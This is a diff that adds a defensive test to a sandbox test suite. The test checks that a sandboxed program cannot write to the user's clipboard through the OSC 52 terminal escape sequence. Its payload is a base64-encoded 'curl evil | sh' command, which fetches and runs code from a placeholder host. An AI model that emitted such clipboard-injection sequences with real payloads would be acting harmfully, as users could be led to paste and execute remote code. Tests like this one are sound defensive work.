@@ -198,3 +198,15 @@ def test_sandbox_dies_with_ringfence_and_leftovers_are_cleaned(scene):
     assert scene.sh("true").returncode == 0
     assert not scene.exists("ws/.ringfence")
     assert not scene.exists("ws/.codex")
+
+
+def test_the_sandbox_cannot_set_the_users_clipboard(scene, terminal):
+    """OSC 52 would put text on the user's clipboard, ready to be pasted outside."""
+    script = "printf 'before\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007after\\n'"
+    control = subprocess.run(["sh", "-c", script], capture_output=True)
+    assert b"]52;" in control.stdout, "control: the program does write the sequence"
+    term = terminal(["sh", "-c", script])
+    term.expect("after")
+    term.wait()
+    assert b"]52;" not in term.output and b"Y3VybCBldmlsIHwgc2g=" not in term.output
+    assert b"beforeafter" in term.output
